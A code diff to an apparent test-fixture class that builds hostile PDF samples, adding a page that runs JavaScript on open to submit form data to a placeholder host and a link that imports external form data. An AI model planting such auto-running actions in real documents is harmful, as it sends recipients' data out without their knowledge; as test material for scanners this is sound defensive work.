@@ -10,9 +10,11 @@ import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
 import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
 import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
 import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
+import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
 import org.apache.poi.poifs.crypt.EncryptionInfo;
 import org.apache.poi.poifs.crypt.EncryptionMode;
@@ -211,6 +213,29 @@ public final class HostileFiles {
         PDActionSubmitForm submit = new PDActionSubmitForm();
         submit.getCOSObject().setString("F", "http://x.invalid/thu");
         return pdfWithLinks(out, launch, submit);
+    }
+
+    /**
+     * A one-page PDF whose page runs JavaScript when it is shown (the page's /AA), and whose link loads form data
+     * from another file (ImportData).
+     */
+    public static Path pdfWithPageScriptAndImport(Path out) throws IOException {
+        PDActionImportData load = new PDActionImportData();
+        load.setFile(new PDComplexFileSpecification());
+        load.getFile().setFile("du-lieu.fdf");
+        try (PDDocument pdf = new PDDocument()) {
+            PDPage page = new PDPage(PDRectangle.A4);
+            PDPageAdditionalActions actions = new PDPageAdditionalActions();
+            actions.setO(new PDActionJavaScript("this.submitForm('http://x.invalid/');"));
+            page.setActions(actions);
+            pdf.addPage(page);
+            PDAnnotationLink link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(50, 700, 200, 20));
+            link.setAction(load);
+            page.getAnnotations().add(link);
+            pdf.save(out.toFile());
+        }
+        return out;
     }
 
     /** A one-page PDF that opens only with a password. */
